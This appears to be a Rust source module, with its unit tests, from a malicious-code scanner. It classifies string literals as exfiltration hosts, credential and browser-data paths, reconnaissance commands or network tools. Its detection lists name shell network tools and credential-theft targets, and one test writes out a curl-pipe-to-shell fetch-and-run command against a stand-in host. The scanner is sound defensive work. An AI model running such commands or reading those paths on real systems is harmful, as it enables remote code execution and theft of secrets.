//! What a string literal names, as kinds the flow carries: hosts by class (from the
//! endpoint table in `data/endpoints.tsv`), sensitive paths, reconnaissance
//! commands.

use std::sync::LazyLock;

use super::kinds::{Kind, Mask};
use super::strings::{self, Markers};

/// The class of a host, from the endpoint table, the address itself, or neither.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum HostClass {
    Exfil(&'static str),
    IpLookup,
    Known,
    RawIp,
    Local,
    Other,
}

impl HostClass {
    pub(crate) fn kind(self) -> Kind {
        match self {
            Self::Exfil(_) => Kind::HostExfil,
            Self::IpLookup => Kind::HostIpLookup,
            Self::Known => Kind::HostKnown,
            Self::RawIp => Kind::HostRawIp,
            Self::Local => Kind::HostLocal,
            Self::Other => Kind::HostOther,
        }
    }
}

struct Endpoint {
    class: &'static str,
    pattern: &'static str,
    what: &'static str,
}

static ENDPOINTS: LazyLock<Vec<Endpoint>> = LazyLock::new(|| {
    include_str!("../../data/endpoints.tsv")
        .lines()
        .filter(|line| !line.starts_with('#') && !line.trim().is_empty())
        .filter_map(|line| {
            let mut columns = line.split('\t');
            let class = columns.next()?;
            let pattern = columns.next()?;
            // Patterns are compared with lowercased hosts and URLs.
            debug_assert_eq!(
                pattern,
                pattern.to_ascii_lowercase(),
                "endpoints.tsv: {pattern}"
            );
            Some(Endpoint {
                class,
                pattern,
                what: columns.next()?,
            })
        })
        .collect()
});

/// The class of `host`, given the URL it was found in (`url` may be the host alone).
pub(crate) fn classify_host(host: &str, url: &str) -> HostClass {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    if local_host(&host) {
        return HostClass::Local;
    }
    let after_scheme = url
        .split_once("://")
        .map_or(url, |(_, rest)| rest)
        .to_ascii_lowercase();
    for endpoint in ENDPOINTS.iter() {
        let matched = match endpoint.pattern.split_once('/') {
            Some((pattern_host, _)) => {
                in_domain(&host, pattern_host)
                    && after_scheme.find(endpoint.pattern).is_some_and(|at| {
                        after_scheme[at + endpoint.pattern.len()..]
                            .chars()
                            .next()
                            .is_some_and(|c| c.is_ascii_alphanumeric())
                    })
            }
            None => in_domain(&host, endpoint.pattern),
        };
        if matched {
            return match endpoint.class {
                "exfil" => HostClass::Exfil(endpoint.what),
                "iplookup" => HostClass::IpLookup,
                _ => HostClass::Known,
            };
        }
    }
    if is_ipv4(&host) {
        return HostClass::RawIp;
    }
    HostClass::Other
}

/// `host` is `domain` or a name under it (`a.b.example` under `b.example`).
fn in_domain(host: &str, domain: &str) -> bool {
    host.strip_suffix(domain)
        .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
}

/// Loopback, private and link-local ranges, and the reserved documentation domains
/// (`example.com`); `.invalid` and `.test` stay foreign, as stand-ins for real hosts.
fn local_host(host: &str) -> bool {
    if matches!(host, "localhost" | "0.0.0.0" | "[::1]" | "::1")
        || host.ends_with(".localhost")
        || host.ends_with(".local")
    {
        return true;
    }
    if ["example.com", "example.org", "example.net"]
        .iter()
        .any(|reserved| in_domain(host, reserved))
    {
        return true;
    }
    let Some(octets) = ipv4(host) else {
        return false;
    };
    matches!(
        octets,
        [127 | 10 | 0, ..] | [192, 168, ..] | [169, 254, ..] | [255, 255, 255, 255]
    ) || (octets[0] == 172 && (16..32).contains(&octets[1]))
        // Public resolvers are written into code that checks connectivity.
        || matches!(octets, [1, 1, 1, 1] | [8, 8, 8, 8] | [8, 8, 4, 4])
}

fn ipv4(host: &str) -> Option<[u8; 4]> {
    let mut octets = [0u8; 4];
    let mut parts = host.split('.');
    for octet in &mut octets {
        let part = parts.next()?;
        if part.is_empty() || part.len() > 3 {
            return None;
        }
        *octet = part.parse().ok()?;
    }
    parts.next().is_none().then_some(octets)
}

fn is_ipv4(host: &str) -> bool {
    ipv4(host).is_some()
}

/// Top-level domains a bare host name in code is recognised by (`x.oast.fun`,
/// `${data}.attacker.com`); file extensions are not among them, nor words that end
/// dotted names in code (`tracer.browser.run`).
const TLDS: &[&str] = &[
    "com", "net", "org", "io", "co", "me", "info", "biz", "xyz", "top", "site", "online", "app",
    "dev", "ai", "cloud", "live", "pro", "fun", "club", "shop", "store", "tech", "space",
    "website", "link", "click", "cc", "tk", "ml", "ga", "cf", "gq", "pw", "ws", "ru", "su", "cn",
    "uk", "de", "fr", "jp", "kr", "br", "in", "us", "eu", "nl", "ca", "au", "it", "es", "pl", "ir",
    "ua", "vn", "tw", "hk", "sg", "ch", "se", "no", "tr", "to", "gg", "ly", "is", "st", "lt",
    "lat", "icu", "buzz", "rest", "work", "invalid",
];

/// The hosts `text` names: those of its URLs, else a bare host name when the text is
/// one (possibly after a template hole: `${}.x.oast.fun`).
pub(crate) fn hosts_in(text: &str) -> Vec<(String, HostClass)> {
    let mut hosts: Vec<(String, HostClass)> = strings::addresses(text)
        .into_iter()
        // A template's hole is no host (`https://${}/api`).
        .filter(|address| !address.host.contains(['$', '{', '}']))
        .map(|address| {
            let class = classify_host(address.host, address.url);
            (address.host.to_ascii_lowercase(), class)
        })
        .collect();
    if hosts.is_empty() && text.len() <= 253 {
        for candidate in
            text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-')))
        {
            let candidate = candidate.trim_matches('.');
            if let Some(host) = bare_host(candidate) {
                let class = classify_host(host, host);
                hosts.push((host.to_ascii_lowercase(), class));
            }
        }
    }
    hosts
}

fn bare_host(candidate: &str) -> Option<&str> {
    let labels: Vec<&str> = candidate.split('.').collect();
    if labels.len() < 2
        || labels
            .iter()
            .any(|label| label.is_empty() || label.len() > 63)
    {
        return None;
    }
    // Dotted numbers outside a URL are often object identifiers (`2.5.4.3`,
    // `1.3.6.1`), which start at 0, 1 or 2.
    if let Some(octets) = ipv4(candidate) {
        return (octets[0] > 2).then_some(candidate);
    }
    let tld = labels.last()?;
    // `index.js.br`, `vips.tar.gz`: a file name with a compression suffix.
    if labels.len() >= 2
        && matches!(
            labels[labels.len() - 2].to_ascii_lowercase().as_str(),
            "tar" | "js" | "mjs" | "cjs" | "css" | "json" | "wasm" | "html" | "svg" | "map" | "txt"
        )
    {
        return None;
    }
    let known = TLDS.contains(&tld.to_ascii_lowercase().as_str())
        || ENDPOINTS.iter().any(|endpoint| {
            !endpoint.pattern.contains('/') && candidate.ends_with(endpoint.pattern)
        });
    // `a.b.com` is a host; `module.exports.io` is not: labels of identifiers that
    // JavaScript reads as property paths are all lowercase words too, so demand that
    // the name is not a known global's path.
    let property_path = matches!(
        labels[0],
        "module" | "exports" | "window" | "document" | "process" | "this" | "self" | "console"
    );
    (known
        && !property_path
        && labels[..labels.len() - 1].iter().all(|label| {
            label
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
        }))
    .then_some(candidate)
}

/// A name written as a domain (`dc.x.lc`): two labels or more of letters, digits and
/// hyphens, ending in letters. For text in a place that names a host.
pub(crate) fn is_domain_name(text: &str) -> bool {
    let labels: Vec<&str> = text.split('.').collect();
    labels.len() >= 2
        && text.len() <= 253
        && labels.iter().all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && label
                    .bytes()
                    .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
        })
        && labels.last().is_some_and(|tld| {
            (2..=24).contains(&tld.len()) && tld.bytes().all(|byte| byte.is_ascii_alphabetic())
        })
}

/// Commands that print who or where the machine is.
const RECON_COMMANDS: &[&str] = &[
    "whoami",
    "hostname",
    "uname",
    "id",
    "ipconfig",
    "ifconfig",
    "systeminfo",
    "wmic",
    "pwd",
    "printenv",
    "env",
    "net user",
    "ip addr",
    "ip a",
    "curl ifconfig.me",
];

fn recon_command(text: &str) -> bool {
    let trimmed = text.trim();
    RECON_COMMANDS.iter().any(|command| {
        trimmed == *command
            || trimmed
                .strip_prefix(command)
                .is_some_and(|rest| rest.starts_with([' ', '&', '|', ';']))
    })
}

/// A sentence rather than an address or a command line: three words or more, none
/// a command's flag, and no network tool among them.
fn is_prose(text: &str) -> bool {
    let words: Vec<&str> = text.split_whitespace().collect();
    words.len() >= 3
        && !words
            .iter()
            .any(|word| word.starts_with('-') || word.starts_with('|'))
        && !network_tool(text)
}

/// A command line that starts a network tool, at its start or after a separator.
pub(crate) fn network_tool(text: &str) -> bool {
    // A command line: the tool and at least one argument (a lone `"ping"` is a
    // message type, not a command).
    text.split(['&', '|', ';', '\n', '(', '`']).any(|segment| {
        let mut words = segment.split_whitespace();
        let tool = words.next().unwrap_or("");
        words.next().is_some() && is_network_tool(tool)
    })
}

/// A program that talks to the network (`curl`, `/usr/bin/wget`, `ping`).
pub(crate) fn is_network_tool(program: &str) -> bool {
    const TOOLS: [&str; 12] = [
        "curl",
        "wget",
        "nc",
        "ncat",
        "nslookup",
        "dig",
        "ping",
        "certutil",
        "bitsadmin",
        "powershell",
        "iwr",
        "Invoke-WebRequest",
    ];
    TOOLS.contains(&program.rsplit(['/', '\\']).next().unwrap_or(program))
}

/// The kinds a string literal carries, and the host to name when it names one.
pub(crate) fn literal_kinds(text: &str, found: &Markers) -> (Mask, Option<(String, HostClass)>) {
    let mut mask = Mask::EMPTY;
    let mut named = None;
    // A destination is written as an address (`https://x/api/${}`, `x.example`); a
    // sentence that mentions one (`see https://…` in an error message) sends
    // nothing there.
    let prose = is_prose(text);
    for (host, class) in if prose { Vec::new() } else { hosts_in(text) } {
        mask = mask.union(class.kind().bit());
        // The strongest host names the literal.
        let rank = |class: HostClass| match class {
            HostClass::Exfil(_) => 5,
            HostClass::IpLookup => 4,
            HostClass::RawIp => 3,
            HostClass::Other => 2,
            HostClass::Known => 1,
            HostClass::Local => 0,
        };
        if named
            .as_ref()
            .is_none_or(|(_, current): &(String, HostClass)| rank(class) > rank(*current))
        {
            named = Some((host, class));
        }
    }
    for (marker, kind) in [
        (found.credential, Kind::PathCredential),
        (found.browser, Kind::PathBrowser),
        (found.wallet, Kind::PathWallet),
        (found.discord, Kind::PathDiscord),
        (found.system, Kind::PathSystem),
        (found.persistence, Kind::PathPersistence),
    ] {
        if marker.is_some() {
            mask = mask.union(kind.bit());
        }
    }
    if matches!(
        text.trim(),
        "/" | "~" | "C:\\" | "C:/" | "~/" | "/home" | "/Users"
    ) || text.contains("$HOME")
        || text.contains("%USERPROFILE%")
    {
        mask = mask.union(Kind::PathHome.bit());
    }
    if found.user_files || matches!(text, "Desktop" | "Documents" | "OneDrive" | "Pictures") {
        mask = mask.union(Kind::PathUserFiles.bit());
    }
    if matches!(text, "/tmp" | "/tmp/" | "/var/tmp") || text.contains("%TEMP%") {
        mask = mask.union(Kind::PathTemp.bit());
    }
    if recon_command(text) {
        mask = mask.union(Kind::ReconCommand.bit());
    }
    if network_tool(text) {
        mask = mask.union(Kind::NetworkTool.bit());
    }
    (mask, named)
}

/// What the endpoint table says a host is, for messages.
pub(crate) fn describe_host(class: HostClass) -> &'static str {
    match class {
        HostClass::Exfil(what) => what,
        HostClass::IpLookup => "an IP-lookup service",
        HostClass::Known => "a known host",
        HostClass::RawIp => "a raw IP address",
        HostClass::Local => "a local address",
        HostClass::Other => "a hard-coded host",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<Kind> {
        literal_kinds(text, &strings::markers(text))
            .0
            .kinds()
            .collect()
    }

    #[test]
    fn hosts_are_classed_by_the_endpoint_table() {
        assert_eq!(kinds("https://abc.oastify.com/x"), [Kind::HostExfil]);
        assert_eq!(kinds("${}.abc.oast.fun"), [Kind::HostExfil]);
        assert_eq!(kinds("http://ip-api.com/json"), [Kind::HostIpLookup]);
        assert_eq!(kinds("http://203.0.113.9:8000/a"), [Kind::HostRawIp]);
        assert_eq!(kinds("http://127.0.0.1:8080/"), [Kind::HostLocal]);
        assert_eq!(kinds("https://docs.example.com/"), [Kind::HostLocal]);
        assert_eq!(kinds("c1.example.invalid"), [Kind::HostOther]);
        assert_eq!(kinds("https://api.github.com/repos"), [Kind::HostKnown]);
        assert_eq!(
            classify_host("discord.com", "https://discord.com/api/webhooks/12/ab"),
            HostClass::Exfil("a Discord webhook")
        );
        assert_eq!(
            classify_host("discord.com", "https://discord.com/api/webhooks/"),
            HostClass::Other,
            "a mention of the service is not an endpoint"
        );
    }

    #[test]
    fn sentences_mention_hosts_and_command_lines_use_them() {
        assert!(kinds("See https://docs.example.invalid/errors/42 for details").is_empty());
        assert_eq!(
            kinds("curl -sL https://x.example.invalid/i.sh | sh"),
            [Kind::HostOther, Kind::NetworkTool]
        );
        assert_eq!(
            kinds("https://x.example.invalid/api/${}"),
            [Kind::HostOther]
        );
    }

    #[test]
    fn file_names_and_property_paths_are_not_hosts() {
        assert!(kinds("index.js").is_empty());
        assert!(
            kinds("-${}.tar.br").is_empty(),
            "a brotli archive, not Brazil"
        );
        assert!(kinds("vendor.js.br").is_empty());
        assert!(kinds("package.json").is_empty());
        assert!(kinds("module.exports.io").is_empty());
        assert!(kinds("some words here").is_empty());
    }

    #[test]
    fn paths_and_commands() {
        assert_eq!(kinds(".npmrc"), [Kind::PathCredential]);
        assert_eq!(
            kinds("AppData/Local/Google/Chrome/User Data/Default/Login Data"),
            [Kind::PathBrowser]
        );
        assert!(kinds("manage local state").is_empty());
        assert_eq!(kinds("whoami"), [Kind::ReconCommand]);
        assert_eq!(kinds("uname -a"), [Kind::ReconCommand]);
        assert!(kinds("identity").is_empty());
    }
}
